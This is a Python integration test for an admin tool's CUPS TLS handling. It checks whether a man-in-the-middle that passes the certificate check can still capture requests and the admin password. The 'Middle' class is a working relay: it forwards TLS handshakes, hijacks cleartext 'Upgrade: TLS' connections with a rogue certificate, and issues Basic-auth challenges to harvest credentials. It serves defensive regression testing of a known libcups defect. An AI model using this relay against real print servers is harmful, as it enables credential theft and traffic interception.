"""The certificate check and libcups' own connection are two connections: a machine in
the middle that lets the check through to the real server and answers libcups itself,
with any certificate, is sent the request and the CUPS admin's password.

The real server is a TLS-only cupsd of the test's own (127.0.3.232); the middle is a
relay on localhost that forwards a connection starting with a TLS handshake (the check's)
and answers a cleartext one (libcups' `Upgrade: TLS`) with a certificate of its own CA.
"""

from __future__ import annotations

import base64
import contextlib
import socket
import ssl
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from adminkit.lab.cups import CupsTlsServer, tls_instance
from adminkit.lab.smtp import make_tls
from tests.integration.owncups import running

pytestmark = pytest.mark.integration
cups = pytest.importorskip("cups")

Cli = Callable[..., Any]
NUMBER = 232  # 127.0.3.232: no other lab server's address
PASSWORD = "Mitm-Canary-9917"


@pytest.fixture(scope="module")
def tls_cups(tmp_path_factory: pytest.TempPathFactory) -> Iterator[CupsTlsServer]:
    yield from running(tls_instance(tmp_path_factory.mktemp("mitm-lab"), NUMBER))


class Middle:
    """Relays TLS from the start; takes over a connection that asks to upgrade."""

    def __init__(self, upstream: tuple[str, int], evil: Path) -> None:
        self.upstream = upstream
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.context.load_cert_chain(evil / "sink.pem", evil / "sink.key")
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.relayed = 0
        self.seen: list[bytes] = []  # what libcups sent the middle, decrypted
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self._one, args=(conn,), daemon=True).start()

    def _one(self, conn: socket.socket) -> None:
        with contextlib.suppress(OSError):  # libcups gave up, or the test is over
            self._answer(conn)

    def _answer(self, conn: socket.socket) -> None:
        with conn:
            conn.settimeout(5)
            if conn.recv(1, socket.MSG_PEEK) == b"\x16":  # a TLS handshake: the check
                self.relayed += 1
                self._relay(conn)
                return
            _read_head(conn)  # OPTIONS * … Upgrade: TLS/1.2
            conn.sendall(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\n"
                         b"Upgrade: TLS/1.2,HTTP/1.1\r\nContent-Length: 0\r\n\r\n")
            tls = self.context.wrap_socket(conn, server_side=True)
            tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")  # to OPTIONS
            for _ in range(4):
                head = _read_head(tls)
                if not head:
                    return
                self.seen.append(head)
                if b"authorization:" in head.lower():
                    return
                tls.sendall(b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic "
                            b"realm=\"CUPS\"\r\nContent-Length: 0\r\n\r\n")

    def _relay(self, conn: socket.socket) -> None:
        up = socket.create_connection(self.upstream)

        def pump(a: socket.socket, b: socket.socket) -> None:
            try:
                while data := a.recv(65536):
                    b.sendall(data)
            except OSError:
                pass
            finally:
                b.close()

        threading.Thread(target=pump, args=(up, conn), daemon=True).start()
        pump(conn, up)

    def close(self) -> None:
        self.listener.close()


def _read_head(sock: socket.socket) -> bytes:
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(4096)
        if not chunk:
            break
        data += chunk
    return data


@pytest.mark.xfail(strict=True, reason="open defect: libcups connects anew after the "
                   "check and takes any certificate (see the report of branch revprint)")
def test_a_middle_that_passes_the_check_gets_no_request_and_no_password(
        tls_cups: CupsTlsServer, cli: Cli, lab_config_dir: Path, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    make_tls(tmp_path / "evil", ("127.0.0.1",), ca_name="not the lab's CA")
    middle = Middle((tls_cups.host, tls_cups.port), tmp_path / "evil")
    try:
        (lab_config_dir / "profiles").mkdir(exist_ok=True)
        (lab_config_dir / "profiles" / "mitm.yaml").write_text(yaml.safe_dump({
            "description": "TLS through a middle", "print_servers": [{
                "name": "print-tls", "kind": "cups", "host": "localhost",
                "port": middle.port, "tls": True, "ca_file": str(tls_cups.ca_file),
                "user": "admin", "password": "env:MITM_PW"}]}))
        monkeypatch.setenv("MITM_PW", PASSWORD)
        r = cli("-p", "mitm", "printer", "pause", "front-desk")
    finally:
        middle.close()
    assert middle.relayed >= 1, r.stdout + r.stderr  # the check went through to cupsd
    stolen = base64.b64encode(f"admin:{PASSWORD}".encode())
    assert not any(stolen in head for head in middle.seen), "the password reached the middle"
    assert middle.seen == [], "libcups sent a request to a certificate nobody checked"
